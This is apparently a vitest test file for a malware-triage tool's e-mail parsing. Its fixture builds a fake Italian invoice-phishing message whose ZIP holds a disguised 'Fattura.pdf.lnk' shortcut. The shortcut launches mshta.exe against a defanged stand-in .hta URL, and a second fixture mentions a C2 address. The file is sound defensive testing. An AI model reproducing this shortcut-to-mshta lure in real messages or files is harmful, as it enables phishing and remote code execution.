import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { writeLnk, writeZip } from '../../../../test/fixtures/samples/writers.js';
import { triageFile } from '../../index.js';
import { renderRecord } from '../../render/summary.js';

const dir = mkdtempSync(join(tmpdir(), 'pillbox-eml-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

const b64 = (b: Uint8Array): string => (Buffer.from(b).toString('base64').match(/.{1,76}/g) ?? []).join('\r\n');

describe('e-mail messages in triage', () => {
  it('lists the attachments of a phishing message and triages them as members', async () => {
    const zip = writeZip([{ name: 'Fattura.pdf.lnk', data: writeLnk({ target: 'C:\\Windows\\System32\\mshta.exe', args: 'hxxps://cdn-fatture.example.org/f.hta' }) }]);
    const B = 'bnd';
    const eml = [
      'Received: from mail.fatture-online.example ([203.0.113.9]) by mx.factory.example', 'From: "Ufficio Fatture" <fatture@fatture-online.example>', 'To: ana@factory.example',
      'Subject: Fattura scaduta', 'Date: Tue, 24 Nov 2026 09:00:00 +0100', 'Message-ID: <1@fatture-online.example>', 'MIME-Version: 1.0', `Content-Type: multipart/mixed; boundary="${B}"`, '',
      `--${B}`, 'Content-Type: text/plain; charset=utf-8', '', 'In allegato la fattura.', '',
      `--${B}`, 'Content-Type: application/zip; name="Fattura.zip"', 'Content-Disposition: attachment; filename="Fattura.zip"', 'Content-Transfer-Encoding: base64', '', b64(zip), '',
      `--${B}--`, '',
    ].join('\r\n');
    const path = join(dir, 'phish.eml');
    writeFileSync(path, eml);
    const r = await triageFile(path, { yara: null, capabilities: null, now: 0 });
    expect(r.format).toBe('email');
    expect(r.description).toBe('e-mail message "Fattura scaduta", 1 attachment(s)');
    expect(r.details['email']).toMatchObject({ subject: 'Fattura scaduta', from: 'fatture@fatture-online.example', to: ['ana@factory.example'], attachments: [{ name: 'Fattura.zip', mime: 'application/zip' }] });
    expect((r.details['email'] as { received: string[] }).received[0]).toContain('203.0.113.9');
    const members = r.details['members'] as { path: string; format: string }[];
    expect(members.map((m) => [m.path.slice(dir.length + 1), m.format])).toEqual([['phish.eml!/Fattura.zip', 'zip']]);
    expect(renderRecord(r)).toContain('archive members:');
  });

  it('triages text that only looks like a message, and a message that does not parse, as text', async () => {
    const path = join(dir, 'notes.txt');
    writeFileSync(path, 'From: our desk\nSubject: notes\n\nNothing here is a message.\n');
    expect((await triageFile(path, { yara: null, capabilities: null })).format).toBe('text');
    const deep = join(dir, 'deep.eml');
    let body = 'x';
    for (let i = 199; i >= 0; i--) body = [`--b${i}`, `Content-Type: multipart/mixed; boundary="b${i + 1}"`, '', body, `--b${i}--`].join('\r\n');
    writeFileSync(deep, ['From: a@b.example', 'Subject: deep', 'Message-ID: <1@b>', 'Content-Type: multipart/mixed; boundary="b0"', '', body].join('\r\n'));
    const r = await triageFile(deep, { yara: null, capabilities: null });
    expect(['text', 'script']).toContain(r.format);
  });
});

describe('an e-mail message on standard input', () => {
  it('is parsed as a message too (the CLI reads `-` and pipes on its own thread)', async () => {
    const { ensureBuilt } = await import('../../../../test/e2e/extract-build.js');
    const { runCli } = await import('../../../../test/e2e/extract-cli.js');
    await ensureBuilt();
    const eml = ['From: a@fatture-online.example', 'To: ana@factory.example', 'Subject: Fattura', 'Message-ID: <1@fatture-online.example>', 'MIME-Version: 1.0', 'Content-Type: multipart/mixed; boundary="b"', '',
      '--b', 'Content-Type: text/plain', '', 'In allegato.', '--b', 'Content-Type: text/plain; name="note.txt"', 'Content-Disposition: attachment; filename="note.txt"', '', 'c2 at 45.86.12.34', '--b--', ''].join('\r\n');
    const r = await runCli(['triage', '--json', '--no-yara', '-'], { input: eml });
    const rec = JSON.parse(r.stdout) as { format: string; details: { members: { path: string }[] } };
    expect(rec.format).toBe('email');
    expect(rec.details.members.map((m) => m.path)).toEqual(['-!/note.txt']);
  });
});
